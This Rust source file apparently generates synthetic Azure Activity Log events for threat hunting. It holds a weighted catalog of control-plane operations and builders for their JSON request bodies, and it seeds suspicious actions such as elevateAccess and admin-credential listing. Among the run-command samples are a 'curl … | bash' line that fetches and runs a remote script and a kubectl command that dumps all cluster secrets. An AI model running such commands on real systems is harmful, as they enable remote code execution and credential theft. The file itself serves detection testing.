//! The catalog of Azure control-plane operations the Activity Log generator draws from.
//!
//! About fifty operations across Compute, Network, Storage, KeyVault, ContainerService,
//! Authorization, Insights, Resources, Web and Management, each with its display name, HTTP
//! method, resource-id layout and relative frequency, plus builders for the `requestbody`
//! JSON that write operations carry. Hunting-relevant rarities (role assignments with real
//! built-in role ids, `elevateAccess`, AKS admin credentials, run commands, diagnostic
//! setting deletes) are present at low but non-trivial rates.

use std::fmt::Write as _;

use crate::population::{GRANTABLE_ROLES, LOCATIONS, Population};
use crate::rng::{Rng, push_guid};

/// How an operation's `resourceId` is laid out.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Scope {
    /// A resource in a resource group: `…/providers/{provider}/{type}/{name}[/{child}/{name}]`,
    /// given as `(type segment, name prefix)` pairs.
    Res(&'static [(&'static str, &'static str)]),
    /// The resource group itself.
    Rg,
    /// An extension resource (`/providers/{provider}/{segment}/{name}`) on a subscription or RG.
    Ext(&'static str, Name),
    /// A diagnostic setting on a resource or a subscription.
    Diag,
    /// The tenant root (`/providers/Microsoft.Authorization`).
    Tenant,
    /// A management group, optionally with a child `(segment, name)`.
    Mg(Option<(&'static str, Name)>),
}

/// How a child resource is named.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Name {
    Guid,
    Prefix(&'static str),
    Subscription,
}

/// Which request body a write carries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Body {
    None,
    Generic,
    Vm,
    VmRunCommand,
    VmExtension,
    Disk,
    NsgRule,
    Vnet,
    Storage,
    KeyVault,
    AccessPolicy,
    Aks,
    AgentPool,
    AksRunCommand,
    RoleAssignment,
    RoleDefinition,
    Lock,
    PolicyAssignment,
    DiagSetting,
    Deployment,
    Site,
    SiteConfig,
    KeyName,
}

pub struct Operation {
    pub action: &'static str,
    pub display: &'static str,
    pub method: &'static str,
    pub provider: &'static str,
    pub rtype: &'static str,
    pub scope: Scope,
    pub body: Body,
    /// Long-running: an `Accepted` event usually sits between `Started` and `Succeeded`.
    pub lro: bool,
    pub weight: u32,
}

#[allow(clippy::too_many_arguments)]
const fn op(
    weight: u32,
    action: &'static str,
    display: &'static str,
    method: &'static str,
    provider: &'static str,
    rtype: &'static str,
    scope: Scope,
    body: Body,
    lro: bool,
) -> Operation {
    Operation {
        action,
        display,
        method,
        provider,
        rtype,
        scope,
        body,
        lro,
        weight,
    }
}

const VM: &[(&str, &str)] = &[("virtualMachines", "vm-")];
const VM_EXT: &[(&str, &str)] = &[("virtualMachines", "vm-"), ("extensions", "ext-")];
const DISK: &[(&str, &str)] = &[("disks", "disk-")];
const SNAP: &[(&str, &str)] = &[("snapshots", "snap-")];
const NSG: &[(&str, &str)] = &[("networkSecurityGroups", "nsg-")];
const NSG_RULE: &[(&str, &str)] = &[
    ("networkSecurityGroups", "nsg-"),
    ("securityRules", "rule-"),
];
const PIP: &[(&str, &str)] = &[("publicIPAddresses", "pip-")];
const VNET: &[(&str, &str)] = &[("virtualNetworks", "vnet-")];
const SUBNET: &[(&str, &str)] = &[("virtualNetworks", "vnet-"), ("subnets", "snet-")];
const NIC: &[(&str, &str)] = &[("networkInterfaces", "nic-")];
const LB: &[(&str, &str)] = &[("loadBalancers", "lb-")];
const SA: &[(&str, &str)] = &[("storageAccounts", "stgen")];
const CONTAINER: &[(&str, &str)] = &[
    ("storageAccounts", "stgen"),
    ("blobServices", "default"),
    ("containers", "data-"),
];
const KV: &[(&str, &str)] = &[("vaults", "kv-gen-")];
const KV_AP: &[(&str, &str)] = &[("vaults", "kv-gen-"), ("accessPolicies", "add")];
const KV_SECRET: &[(&str, &str)] = &[("vaults", "kv-gen-"), ("secrets", "secret-")];
const AKS: &[(&str, &str)] = &[("managedClusters", "aks-")];
const AKS_POOL: &[(&str, &str)] = &[("managedClusters", "aks-"), ("agentPools", "pool")];
const DEPLOY: &[(&str, &str)] = &[("deployments", "deploy-")];
const SITE: &[(&str, &str)] = &[("sites", "app-gen-")];
const SITE_CFG: &[(&str, &str)] = &[("sites", "app-gen-"), ("config", "web")];
const ALERT: &[(&str, &str)] = &[("activityLogAlerts", "alert-")];

use Body as B;
use Scope as S;

/// Administrative operations with relative weights (sum is arbitrary).
#[rustfmt::skip]
pub static OPERATIONS: &[Operation] = &[
    // Microsoft.Compute
    op(90, "Microsoft.Compute/virtualMachines/write", "Create or Update Virtual Machine", "PUT", "Microsoft.Compute", "Microsoft.Compute/virtualMachines", S::Res(VM), B::Vm, true),
    op(12, "Microsoft.Compute/virtualMachines/delete", "Delete Virtual Machine", "DELETE", "Microsoft.Compute", "Microsoft.Compute/virtualMachines", S::Res(VM), B::None, true),
    op(60, "Microsoft.Compute/virtualMachines/start/action", "Start Virtual Machine", "POST", "Microsoft.Compute", "Microsoft.Compute/virtualMachines", S::Res(VM), B::None, true),
    op(60, "Microsoft.Compute/virtualMachines/deallocate/action", "Deallocate Virtual Machine", "POST", "Microsoft.Compute", "Microsoft.Compute/virtualMachines", S::Res(VM), B::None, true),
    op(25, "Microsoft.Compute/virtualMachines/restart/action", "Restart Virtual Machine", "POST", "Microsoft.Compute", "Microsoft.Compute/virtualMachines", S::Res(VM), B::None, true),
    op(4, "Microsoft.Compute/virtualMachines/runCommand/action", "Run Command on Virtual Machine", "POST", "Microsoft.Compute", "Microsoft.Compute/virtualMachines", S::Res(VM), B::VmRunCommand, true),
    op(20, "Microsoft.Compute/virtualMachines/extensions/write", "Create or Update Virtual Machine Extension", "PUT", "Microsoft.Compute", "Microsoft.Compute/virtualMachines/extensions", S::Res(VM_EXT), B::VmExtension, true),
    op(30, "Microsoft.Compute/disks/write", "Create or Update Disk", "PUT", "Microsoft.Compute", "Microsoft.Compute/disks", S::Res(DISK), B::Disk, true),
    op(3, "Microsoft.Compute/disks/beginGetAccess/action", "Get Disk SAS URI", "POST", "Microsoft.Compute", "Microsoft.Compute/disks", S::Res(DISK), B::None, true),
    op(15, "Microsoft.Compute/snapshots/write", "Create or Update Snapshot", "PUT", "Microsoft.Compute", "Microsoft.Compute/snapshots", S::Res(SNAP), B::Generic, true),
    // Microsoft.Network
    op(25, "Microsoft.Network/networkSecurityGroups/write", "Create or Update Network Security Group", "PUT", "Microsoft.Network", "Microsoft.Network/networkSecurityGroups", S::Res(NSG), B::Generic, true),
    op(25, "Microsoft.Network/networkSecurityGroups/securityRules/write", "Create or Update Security Rule", "PUT", "Microsoft.Network", "Microsoft.Network/networkSecurityGroups/securityRules", S::Res(NSG_RULE), B::NsgRule, true),
    op(8, "Microsoft.Network/networkSecurityGroups/securityRules/delete", "Delete Security Rule", "DELETE", "Microsoft.Network", "Microsoft.Network/networkSecurityGroups/securityRules", S::Res(NSG_RULE), B::None, true),
    op(20, "Microsoft.Network/publicIPAddresses/write", "Create or Update Public Ip Address", "PUT", "Microsoft.Network", "Microsoft.Network/publicIPAddresses", S::Res(PIP), B::Generic, true),
    op(15, "Microsoft.Network/virtualNetworks/write", "Create or Update Virtual Network", "PUT", "Microsoft.Network", "Microsoft.Network/virtualNetworks", S::Res(VNET), B::Vnet, true),
    op(15, "Microsoft.Network/virtualNetworks/subnets/write", "Create or Update Virtual Network Subnet", "PUT", "Microsoft.Network", "Microsoft.Network/virtualNetworks/subnets", S::Res(SUBNET), B::Generic, true),
    op(40, "Microsoft.Network/networkInterfaces/write", "Create or Update Network Interface", "PUT", "Microsoft.Network", "Microsoft.Network/networkInterfaces", S::Res(NIC), B::Generic, true),
    op(8, "Microsoft.Network/loadBalancers/write", "Create or Update Load Balancer", "PUT", "Microsoft.Network", "Microsoft.Network/loadBalancers", S::Res(LB), B::Generic, true),
    // Microsoft.Storage
    op(20, "Microsoft.Storage/storageAccounts/write", "Create/Update Storage Account", "PUT", "Microsoft.Storage", "Microsoft.Storage/storageAccounts", S::Res(SA), B::Storage, true),
    op(45, "Microsoft.Storage/storageAccounts/listKeys/action", "List Storage Account Keys", "POST", "Microsoft.Storage", "Microsoft.Storage/storageAccounts", S::Res(SA), B::None, false),
    op(3, "Microsoft.Storage/storageAccounts/regeneratekey/action", "Regenerate Storage Account Keys", "POST", "Microsoft.Storage", "Microsoft.Storage/storageAccounts", S::Res(SA), B::KeyName, false),
    op(3, "Microsoft.Storage/storageAccounts/delete", "Delete Storage Account", "DELETE", "Microsoft.Storage", "Microsoft.Storage/storageAccounts", S::Res(SA), B::None, false),
    op(15, "Microsoft.Storage/storageAccounts/blobServices/containers/write", "Put blob container", "PUT", "Microsoft.Storage", "Microsoft.Storage/storageAccounts/blobServices/containers", S::Res(CONTAINER), B::Generic, false),
    op(4, "Microsoft.Storage/storageAccounts/listAccountSas/action", "List SAS Token", "POST", "Microsoft.Storage", "Microsoft.Storage/storageAccounts", S::Res(SA), B::None, false),
    // Microsoft.KeyVault
    op(10, "Microsoft.KeyVault/vaults/write", "Update Key Vault", "PUT", "Microsoft.KeyVault", "Microsoft.KeyVault/vaults", S::Res(KV), B::KeyVault, false),
    op(2, "Microsoft.KeyVault/vaults/delete", "Remove Key Vault", "DELETE", "Microsoft.KeyVault", "Microsoft.KeyVault/vaults", S::Res(KV), B::None, false),
    op(6, "Microsoft.KeyVault/vaults/accessPolicies/write", "Update Access Policy", "PUT", "Microsoft.KeyVault", "Microsoft.KeyVault/vaults/accessPolicies", S::Res(KV_AP), B::AccessPolicy, false),
    op(10, "Microsoft.KeyVault/vaults/secrets/write", "Write Secret", "PUT", "Microsoft.KeyVault", "Microsoft.KeyVault/vaults/secrets", S::Res(KV_SECRET), B::Generic, false),
    // Microsoft.ContainerService
    op(10, "Microsoft.ContainerService/managedClusters/write", "Create or Update Managed Cluster", "PUT", "Microsoft.ContainerService", "Microsoft.ContainerService/managedClusters", S::Res(AKS), B::Aks, true),
    op(4, "Microsoft.ContainerService/managedClusters/listClusterAdminCredential/action", "List clusterAdmin credential", "POST", "Microsoft.ContainerService", "Microsoft.ContainerService/managedClusters", S::Res(AKS), B::None, false),
    op(25, "Microsoft.ContainerService/managedClusters/listClusterUserCredential/action", "List clusterUser credential", "POST", "Microsoft.ContainerService", "Microsoft.ContainerService/managedClusters", S::Res(AKS), B::None, false),
    op(3, "Microsoft.ContainerService/managedClusters/runCommand/action", "RunCommand", "POST", "Microsoft.ContainerService", "Microsoft.ContainerService/managedClusters", S::Res(AKS), B::AksRunCommand, true),
    op(12, "Microsoft.ContainerService/managedClusters/agentPools/write", "Create or Update Agent Pool", "PUT", "Microsoft.ContainerService", "Microsoft.ContainerService/managedClusters/agentPools", S::Res(AKS_POOL), B::AgentPool, true),
    op(1, "Microsoft.ContainerService/managedClusters/delete", "Delete Managed Cluster", "DELETE", "Microsoft.ContainerService", "Microsoft.ContainerService/managedClusters", S::Res(AKS), B::None, true),
    // Microsoft.Authorization
    op(12, "Microsoft.Authorization/roleAssignments/write", "Create role assignment", "PUT", "Microsoft.Authorization", "Microsoft.Authorization/roleAssignments", S::Ext("roleAssignments", Name::Guid), B::RoleAssignment, false),
    op(5, "Microsoft.Authorization/roleAssignments/delete", "Delete role assignment", "DELETE", "Microsoft.Authorization", "Microsoft.Authorization/roleAssignments", S::Ext("roleAssignments", Name::Guid), B::None, false),
    op(1, "Microsoft.Authorization/roleDefinitions/write", "Create or update custom role definition", "PUT", "Microsoft.Authorization", "Microsoft.Authorization/roleDefinitions", S::Ext("roleDefinitions", Name::Guid), B::RoleDefinition, false),
    op(3, "Microsoft.Authorization/locks/write", "Create management lock", "PUT", "Microsoft.Authorization", "Microsoft.Authorization/locks", S::Ext("locks", Name::Prefix("lock-")), B::Lock, false),
    op(1, "Microsoft.Authorization/locks/delete", "Delete management lock", "DELETE", "Microsoft.Authorization", "Microsoft.Authorization/locks", S::Ext("locks", Name::Prefix("lock-")), B::None, false),
    op(4, "Microsoft.Authorization/policyAssignments/write", "Create policy assignment", "PUT", "Microsoft.Authorization", "Microsoft.Authorization/policyAssignments", S::Ext("policyAssignments", Name::Prefix("pa-")), B::PolicyAssignment, false),
    // Microsoft.Insights
    op(6, "Microsoft.Insights/diagnosticSettings/write", "Create or update resource diagnostic setting", "PUT", "microsoft.insights", "microsoft.insights/diagnosticSettings", S::Diag, B::DiagSetting, false),
    op(1, "Microsoft.Insights/diagnosticSettings/delete", "Delete resource diagnostic setting", "DELETE", "microsoft.insights", "microsoft.insights/diagnosticSettings", S::Diag, B::None, false),
    op(3, "Microsoft.Insights/activityLogAlerts/write", "Create or update activity log alert", "PUT", "Microsoft.Insights", "Microsoft.Insights/activityLogAlerts", S::Res(ALERT), B::Generic, false),
    // Microsoft.Resources
    op(60, "Microsoft.Resources/deployments/write", "Create Deployment", "PUT", "Microsoft.Resources", "Microsoft.Resources/deployments", S::Res(DEPLOY), B::Deployment, true),
    op(15, "Microsoft.Resources/deployments/validate/action", "Validate Deployment", "POST", "Microsoft.Resources", "Microsoft.Resources/deployments", S::Res(DEPLOY), B::Deployment, false),
    op(8, "Microsoft.Resources/subscriptions/resourceGroups/write", "Update resource group", "PUT", "Microsoft.Resources", "Microsoft.Resources/subscriptions/resourceGroups", S::Rg, B::Generic, false),
    op(1, "Microsoft.Resources/subscriptions/resourceGroups/delete", "Delete resource group", "DELETE", "Microsoft.Resources", "Microsoft.Resources/subscriptions/resourceGroups", S::Rg, B::None, true),
    op(15, "Microsoft.Resources/tags/write", "Update tags", "PUT", "Microsoft.Resources", "Microsoft.Resources/tags", S::Ext("tags", Name::Prefix("default")), B::Generic, false),
    // Microsoft.Web
    op(20, "Microsoft.Web/sites/write", "Create or Update Web App", "PUT", "Microsoft.Web", "Microsoft.Web/sites", S::Res(SITE), B::Site, true),
    op(15, "Microsoft.Web/sites/config/write", "Update Web App Configuration", "PUT", "Microsoft.Web", "Microsoft.Web/sites/config", S::Res(SITE_CFG), B::SiteConfig, false),
    op(3, "Microsoft.Web/sites/publishxml/action", "Get web app publishing profile", "POST", "Microsoft.Web", "Microsoft.Web/sites", S::Res(SITE), B::None, false),
    op(10, "Microsoft.Web/sites/restart/action", "Restart Web App", "POST", "Microsoft.Web", "Microsoft.Web/sites", S::Res(SITE), B::None, false),
];

/// Tenant- and management-group-scope operations (a small fraction of events).
#[rustfmt::skip]
pub static ROOT_OPERATIONS: &[Operation] = &[
    op(3, "Microsoft.Authorization/elevateAccess/action", "Assign the caller to User Access Administrator role", "POST", "Microsoft.Authorization", "Microsoft.Authorization/elevateAccess", S::Tenant, B::None, false),
    op(2, "Microsoft.Management/managementGroups/write", "Create or Update Management Group", "PUT", "Microsoft.Management", "Microsoft.Management/managementGroups", S::Mg(None), B::Generic, false),
    op(2, "Microsoft.Management/managementGroups/subscriptions/write", "Move subscription to management group", "PUT", "Microsoft.Management", "Microsoft.Management/managementGroups/subscriptions", S::Mg(Some(("subscriptions", Name::Subscription))), B::None, false),
    op(3, "Microsoft.Authorization/roleAssignments/write", "Create role assignment", "PUT", "Microsoft.Authorization", "Microsoft.Authorization/roleAssignments", S::Mg(Some(("roleAssignments", Name::Guid))), B::RoleAssignment, false),
    op(2, "Microsoft.Authorization/policyAssignments/write", "Create policy assignment", "PUT", "Microsoft.Authorization", "Microsoft.Authorization/policyAssignments", S::Mg(Some(("policyAssignments", Name::Prefix("pa-mg-")))), B::PolicyAssignment, false),
];

/// Everything a request body may mention about its target.
pub struct BodyCtx<'a> {
    pub pop: &'a Population,
    pub location: &'a str,
    /// Subscription id for ids inside the body (empty at tenant / MG scope).
    pub sub_id: &'a str,
    /// `/subscriptions/{id}` or a management-group id prefix for definitions.
    pub def_scope: &'a str,
    /// The scope a role assignment targets (the resource id without the assignment suffix).
    pub assign_scope: &'a str,
    pub resource_name: &'a str,
    pub rg: &'a str,
}

/// Writes the request body of `body` (compact JSON) into `out`. Returns false if none.
pub fn request_body(body: Body, r: &mut Rng, c: &BodyCtx<'_>, out: &mut String) -> bool {
    let loc = c.location;
    let tags = |r: &mut Rng, out: &mut String| {
        let env = ["prod", "dev", "test"][r.index(3)];
        let _ = write!(
            out,
            r#""tags":{{"environment":"{env}","owner":"team-{:02}","costCenter":"CC-{:04}","managedBy":"{}"}}"#,
            r.below(20),
            r.below(10_000),
            ["terraform", "bicep", "portal", "pipeline"][r.index(4)]
        );
    };
    match body {
        Body::None => return false,
        Body::Generic => {
            let _ = write!(out, r#"{{"location":"{loc}","#);
            tags(r, out);
            out.push_str(r#","properties":{"provisioningState":"Succeeded"}}"#);
        }
        Body::Vm => {
            let size = [
                "Standard_D2s_v5",
                "Standard_D4s_v5",
                "Standard_B2ms",
                "Standard_E8s_v5",
            ][r.index(4)];
            let _ = write!(
                out,
                r#"{{"location":"{loc}","properties":{{"hardwareProfile":{{"vmSize":"{size}"}},"storageProfile":{{"imageReference":{{"publisher":"Canonical","offer":"0001-com-ubuntu-server-jammy","sku":"22_04-lts-gen2","version":"latest"}},"osDisk":{{"createOption":"FromImage","managedDisk":{{"storageAccountType":"Premium_LRS"}}}}}},"osProfile":{{"computerName":"{name}","adminUsername":"azureuser","linuxConfiguration":{{"disablePasswordAuthentication":true}}}},"networkProfile":{{"networkInterfaces":[{{"id":"/subscriptions/{sub}/resourceGroups/{rg}/providers/Microsoft.Network/networkInterfaces/nic-{name}"}}]}}}},"#,
                name = c.resource_name,
                sub = c.sub_id,
                rg = c.rg
            );
            tags(r, out);
            out.push('}');
        }
        Body::VmRunCommand => {
            let script = [
                r#"["whoami","id","hostname"]"#,
                r#"["cat /etc/os-release"]"#,
                r#"["systemctl restart nginx"]"#,
                r#"["curl -s http://192.0.2.10/setup.sh | bash"]"#,
            ][r.index(4)];
            let _ = write!(
                out,
                r#"{{"commandId":"RunShellScript","script":{script},"parameters":[]}}"#
            );
        }
        Body::VmExtension => {
            let (publisher, kind) = [
                ("Microsoft.Azure.Monitor", "AzureMonitorLinuxAgent"),
                ("Microsoft.Azure.Extensions", "CustomScript"),
                ("Microsoft.OSTCExtensions", "VMAccessForLinux"),
                ("Microsoft.Azure.Security", "AzureDiskEncryptionForLinux"),
            ][r.index(4)];
            let _ = write!(
                out,
                r#"{{"location":"{loc}","properties":{{"publisher":"{publisher}","type":"{kind}","typeHandlerVersion":"1.{}","autoUpgradeMinorVersion":true,"settings":{{}},"protectedSettings":"***"}}}}"#,
                r.below(30)
            );
        }
        Body::Disk => {
            let _ = write!(
                out,
                r#"{{"location":"{loc}","sku":{{"name":"Premium_LRS"}},"properties":{{"creationData":{{"createOption":"Empty"}},"diskSizeGB":{},"networkAccessPolicy":"AllowAll","publicNetworkAccess":"Enabled"}},"#,
                [32, 64, 128, 256, 512][r.index(5)]
            );
            tags(r, out);
            out.push('}');
        }
        Body::NsgRule => {
            let port = ["22", "3389", "443", "80", "5985-5986", "*"][r.index(6)];
            let src = ["*", "Internet", "VirtualNetwork", "198.51.100.0/24"][r.index(4)];
            let access = if r.chance(0.85) { "Allow" } else { "Deny" };
            let _ = write!(
                out,
                r#"{{"properties":{{"protocol":"Tcp","sourcePortRange":"*","destinationPortRange":"{port}","sourceAddressPrefix":"{src}","destinationAddressPrefix":"*","access":"{access}","priority":{},"direction":"Inbound","description":"managed by pipeline"}}}}"#,
                100 + 10 * r.below(40)
            );
        }
        Body::Vnet => {
            let _ = write!(
                out,
                r#"{{"location":"{loc}","properties":{{"addressSpace":{{"addressPrefixes":["10.{0}.0.0/16"]}},"subnets":[{{"name":"default","properties":{{"addressPrefix":"10.{0}.0.0/24"}}}},{{"name":"snet-app","properties":{{"addressPrefix":"10.{0}.1.0/24"}}}}]}},"#,
                r.below(250)
            );
            tags(r, out);
            out.push('}');
        }
        Body::Storage => {
            let public = if r.chance(0.1) { "true" } else { "false" };
            let _ = write!(
                out,
                r#"{{"location":"{loc}","kind":"StorageV2","sku":{{"name":"Standard_LRS"}},"properties":{{"allowBlobPublicAccess":{public},"minimumTlsVersion":"TLS1_2","supportsHttpsTrafficOnly":true,"allowSharedKeyAccess":true,"networkAcls":{{"defaultAction":"Allow","bypass":"AzureServices"}}}},"#
            );
            tags(r, out);
            out.push('}');
        }
        Body::KeyVault => {
            let _ = write!(
                out,
                r#"{{"location":"{loc}","properties":{{"tenantId":"{}","sku":{{"family":"A","name":"standard"}},"enableRbacAuthorization":true,"enableSoftDelete":true,"softDeleteRetentionInDays":90,"enablePurgeProtection":{}}}}}"#,
                c.pop.tenant,
                r.chance(0.7)
            );
        }
        Body::AccessPolicy => {
            let _ = write!(
                out,
                r#"{{"properties":{{"accessPolicies":[{{"tenantId":"{}","objectId":""#,
                c.pop.tenant
            );
            push_guid(out, r.guid());
            out.push_str(r#"","permissions":{"keys":["get","list"],"secrets":["get","list","set"],"certificates":["get"]}}]}}"#);
        }
        Body::Aks => {
            let _ = write!(
                out,
                r#"{{"location":"{loc}","properties":{{"kubernetesVersion":"1.{}.{}","dnsPrefix":"{}-dns","enableRBAC":true,"aadProfile":{{"managed":true,"enableAzureRBAC":true}},"disableLocalAccounts":{},"agentPoolProfiles":[{{"name":"system","count":3,"vmSize":"Standard_D4s_v5","mode":"System"}}],"networkProfile":{{"networkPlugin":"azure","networkPolicy":"calico"}}}}}}"#,
                29 + r.below(4),
                r.below(10),
                c.resource_name,
                r.chance(0.5)
            );
        }
        Body::AgentPool => {
            let _ = write!(
                out,
                r#"{{"properties":{{"count":{},"vmSize":"Standard_D4s_v5","osType":"Linux","mode":"User","enableAutoScaling":true,"minCount":1,"maxCount":10,"orchestratorVersion":"1.{}.{}"}}}}"#,
                1 + r.below(10),
                29 + r.below(4),
                r.below(10)
            );
        }
        Body::AksRunCommand => {
            let cmd = [
                "kubectl get pods -A",
                "kubectl get secrets -A -o yaml",
                "kubectl describe nodes",
                "kubectl rollout restart deployment/api -n default",
            ][r.index(4)];
            let _ = write!(
                out,
                r#"{{"command":"{cmd}","context":"","clusterToken":""}}"#
            );
        }
        Body::RoleAssignment => {
            let role = r.weighted(GRANTABLE_ROLES);
            let principal_type = if r.chance(0.7) {
                "User"
            } else {
                "ServicePrincipal"
            };
            let principal = if principal_type == "User" {
                c.pop.users[r.index(c.pop.users.len())].oid
            } else {
                c.pop.sps[r.index(c.pop.sps.len())].oid
            };
            out.push_str(r#"{"Id":""#);
            push_guid(out, r.guid());
            out.push_str(r#"","Properties":{"PrincipalId":""#);
            push_guid(out, principal);
            let _ = write!(
                out,
                r#"","PrincipalType":"{principal_type}","RoleDefinitionId":"{}/providers/Microsoft.Authorization/roleDefinitions/{}","Scope":"{}","Condition":null,"ConditionVersion":null}}}}"#,
                c.def_scope, role.id, c.assign_scope
            );
        }
        Body::RoleDefinition => {
            let _ = write!(
                out,
                r#"{{"properties":{{"roleName":"Custom Operator {:02}","description":"Operators can restart VMs and read secrets","type":"CustomRole","permissions":[{{"actions":["Microsoft.Compute/virtualMachines/restart/action","Microsoft.Compute/*/read","Microsoft.KeyVault/vaults/secrets/read"],"notActions":[]}}],"assignableScopes":["{}"]}}}}"#,
                r.below(30),
                c.def_scope
            );
        }
        Body::Lock => {
            let level = if r.chance(0.7) {
                "CanNotDelete"
            } else {
                "ReadOnly"
            };
            let _ = write!(
                out,
                r#"{{"properties":{{"level":"{level}","notes":"Protect production resources","owners":[]}}}}"#
            );
        }
        Body::PolicyAssignment => {
            out.push_str(r#"{"properties":{"displayName":"Require tag on resources","policyDefinitionId":"/providers/Microsoft.Authorization/policyDefinitions/"#);
            push_guid(out, r.guid());
            let _ = write!(
                out,
                r#"","scope":"{}","enforcementMode":"Default","parameters":{{"tagName":{{"value":"costCenter"}}}}}}}}"#,
                c.assign_scope
            );
        }
        Body::DiagSetting => {
            let _ = write!(
                out,
                r#"{{"properties":{{"workspaceId":"/subscriptions/{}/resourceGroups/rg-logs-prod-07/providers/Microsoft.OperationalInsights/workspaces/law-contoso-gen","logs":[{{"category":"Administrative","enabled":true}},{{"category":"Security","enabled":true}},{{"category":"Policy","enabled":{}}}],"metrics":[{{"category":"AllMetrics","enabled":false}}]}}}}"#,
                c.pop.subs[0].id,
                r.chance(0.8)
            );
        }
        Body::Deployment => {
            let _ = write!(
                out,
                r#"{{"properties":{{"mode":"Incremental","templateLink":{{"uri":"https://templates.contoso-gen.example/main-{}.json","contentVersion":"1.0.0.0"}},"parameters":{{"location":{{"value":"{loc}"}},"environment":{{"value":"{}"}},"instanceCount":{{"value":{}}}}},"debugSetting":{{"detailLevel":"none"}}}}}}"#,
                r.below(50),
                ["prod", "dev", "test"][r.index(3)],
                1 + r.below(5)
            );
        }
        Body::Site => {
            let _ = write!(
                out,
                r#"{{"location":"{loc}","kind":"app,linux","properties":{{"serverFarmId":"/subscriptions/{}/resourceGroups/{}/providers/Microsoft.Web/serverfarms/asp-gen-{:02}","httpsOnly":true,"siteConfig":{{"linuxFxVersion":"NODE|20-lts","ftpsState":"Disabled","minTlsVersion":"1.2"}}}},"#,
                c.sub_id,
                c.rg,
                r.below(8)
            );
            tags(r, out);
            out.push('}');
        }
        Body::SiteConfig => {
            let _ = write!(
                out,
                r#"{{"properties":{{"numberOfWorkers":{},"alwaysOn":true,"http20Enabled":true,"ftpsState":"{}","scmIpSecurityRestrictionsUseMain":false,"ipSecurityRestrictions":[{{"ipAddress":"Any","action":"Allow","priority":2147483647,"name":"Allow all"}}]}}}}"#,
                1 + r.below(4),
                ["Disabled", "FtpsOnly", "AllAllowed"][r.index(3)]
            );
        }
        Body::KeyName => {
            let _ = write!(out, r#"{{"keyName":"key{}"}}"#, 1 + r.below(2));
        }
    }
    true
}

/// A random location (for bodies of resources without a resource-group location).
pub fn any_location(r: &mut Rng) -> &'static str {
    LOCATIONS[r.index(LOCATIONS.len())]
}
